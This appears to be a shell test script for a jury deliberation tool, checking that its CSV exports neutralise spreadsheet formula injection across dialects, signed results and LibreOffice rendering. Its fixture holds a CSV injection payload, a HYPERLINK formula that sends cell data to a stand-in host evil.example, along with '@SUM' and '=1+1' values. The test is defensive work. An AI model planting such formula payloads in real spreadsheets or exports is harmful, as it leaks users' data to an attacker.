#!/bin/sh
# SPDX-License-Identifier: GPL-3.0-or-later
# CSV for spreadsheets and for scripts: a title or a rationale that a
# spreadsheet would run as a formula is written as text (OWASP's rule),
# in every CSV output, the signed results included; --dialect excel is
# what a French- or Arabic-locale office opens as it is.
. "$MUDAWALA_SRCDIR/tests/lib.sh"
DB="$T/e.sqlite"
demo_deliberation "$DB"
export MUDAWALA_PASSPHRASE=demo

# A hostile candidacy: its title a link that phones home, its
# administration a sum; the chair's rationale a formula.
sqlite3 "$DB" "SELECT 1" >/dev/null 2>&1 || :
printf 'id,category,title_fr,administration\nH1,e-contenu,"=HYPERLINK(""http://evil.example/?""&A1,""Voir"")",@SUM(1+1)\n' >"$T/hostile.csv"
"$MUDAWALA_BIN" init --db "$T/h.sqlite" --preset emtiaz --edition T --year 2019 >/dev/null
run import dossiers --db "$T/h.sqlite" "$T/hostile.csv"
expect_status 0 "a hostile title imports (it is only text)"
run list dossiers --db "$T/h.sqlite" --format csv
if grep -q "^H1,e-contenu,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Voir\"\")\",'@SUM(1+1)," "$T/out"; then
	ok "list --format csv: the formula title and administration are text"
else
	not_ok "list --format csv: the formula title and administration are text" "$(cat "$T/out")"
fi
cp "$T/out" "$T/listed.csv"
"$MUDAWALA_BIN" init --db "$T/copy.sqlite" --preset emtiaz --edition T --year 2019 >/dev/null
run import dossiers --db "$T/copy.sqlite" "$T/listed.csv"
t=$(sqlite3 "$T/copy.sqlite" "SELECT title_fr || '|' || administration FROM dossier WHERE id = 'H1'")
if [ "$t" = '=HYPERLINK("http://evil.example/?"&A1,"Voir")|@SUM(1+1)' ]; then
	ok "the listing imports back as it was (the apostrophe is ours)"
else
	not_ok "the listing imports back as it was (the apostrophe is ours)" "$t"
fi

# The signed results: a rationale that is a formula, a negative number
# and a comment starting with a minus.
mw award --db "$DB" --juror chair --category e-demarche --prize excellence \
    --dossier D10 --rationale "=1+1" >/dev/null
mw award --db "$DB" --juror chair --category e-demarche --prize encouragement \
    --none --rationale "-2+3 dossiers retenus" >/dev/null
run export --db "$DB" --format csv --table decisions --draft -o "$T/r.csv" --sign --juror chair
expect_status 0 "the decisions export, signed"
if grep -q ",'=1+1,20" "$T/r.csv" && grep -q ",'-2+3 dossiers retenus,20" "$T/r.csv" &&
    ! grep -q ',=1+1,' "$T/r.csv"; then
	ok "the signed results: formulas in rationales are text"
else
	not_ok "the signed results: formulas in rationales are text" "$(cat "$T/r.csv")"
fi
mw export --db "$DB" --format csv --draft -o "$T/ranking.csv" >/dev/null
if grep -qE ',[0-9]+\.[0-9]+,' "$T/ranking.csv" && ! grep -qE ",'[0-9]" "$T/ranking.csv"; then
	ok "numbers stay numbers, with a point, no apostrophe"
else
	not_ok "numbers stay numbers, with a point, no apostrophe"
fi
if command -v minisign >/dev/null 2>&1; then
	mw pubkey --db "$DB" --juror chair -o "$T/chair.pub" >/dev/null
	check "minisign verifies the neutralized results" minisign -Vm "$T/r.csv" -p "$T/chair.pub"
fi

# The excel dialect: BOM, semicolons, CRLF, decimal commas.
run export --db "$DB" --format csv --table decisions --draft --dialect excel -o "$T/x.csv"
expect_status 0 "--dialect excel exports"
mw export --db "$DB" --format csv --draft --dialect excel -o "$T/xr.csv" >/dev/null
if [ "$(head -c 3 "$T/x.csv" | od -An -tx1 | tr -d ' ')" = efbbbf ] &&
    head -1 "$T/x.csv" | grep -q "^.category;prize;dossier;title;rationale;decided_at;decided_by;status"$(printf '\r')"$" &&
    grep -q ";'=1+1;" "$T/x.csv" && grep -qE ';[0-9]+,[0-9]+;' "$T/xr.csv" &&
    ! grep -qE ';[0-9]+\.[0-9]+;' "$T/xr.csv"; then
	ok "--dialect excel: BOM, ';', CRLF, decimal comma, formulas as text"
else
	not_ok "--dialect excel: BOM, ';', CRLF, decimal comma, formulas as text" "$(head -3 "$T/x.csv" | od -c | head)"
fi
run ranking --db "$DB" --format csv --dialect excel
if grep -qE '^e-demarche;1;D01;[^;]*;85,25;' "$T/out"; then
	ok "every CSV output takes --dialect (ranking)"
else
	not_ok "every CSV output takes --dialect (ranking)" "$(sed -n 2p "$T/out")"
fi
run ranking --db "$DB" --format csv --dialect lotus
expect_status 2 "an unknown dialect is a usage error"
expect_err "expected plain or excel" "saying which exist"

# As an office opens them: LibreOffice, headless, under a French locale.
if command -v soffice >/dev/null 2>&1; then
	mkdir -p "$T/lo"
	soffice -env:UserInstallation=file://"$T/lo-profile" --headless \
	    --convert-to html --outdir "$T/lo" "$T/r.csv" >/dev/null 2>&1
	for f in x xr; do
		soffice -env:UserInstallation=file://"$T/lo-profile" --headless \
		    --infilter="CSV:59,34,76,1,,1036" --convert-to html \
		    --outdir "$T/lo" "$T/$f.csv" >/dev/null 2>&1
	done
	for f in r x; do
		# A formula would show its result (2), never its text.
		if [ -s "$T/lo/$f.html" ] && grep -q ">'=1+1" "$T/lo/$f.html" &&
		    grep -q ">'=HYPERLINK\|>'-2+3 dossiers" "$T/lo/$f.html"; then
			ok "LibreOffice shows the rationale as text, not its result ($f)"
		else
			not_ok "LibreOffice shows the rationale as text, not its result ($f)" "$(grep -o '<td[^>]*>[^<]*' "$T/lo/$f.html" 2>/dev/null | grep -n "1+1\|>2<" | head -3)"
		fi
	done
	if grep -q 'sdval="85.25"' "$T/lo/xr.html"; then
		ok "LibreOffice in French reads the excel dialect's 85,25 as a number"
	else
		not_ok "LibreOffice in French reads the excel dialect's 85,25 as a number"
	fi
else
	skip "LibreOffice is not installed (libreoffice-calc-nogui)"
fi
done_testing
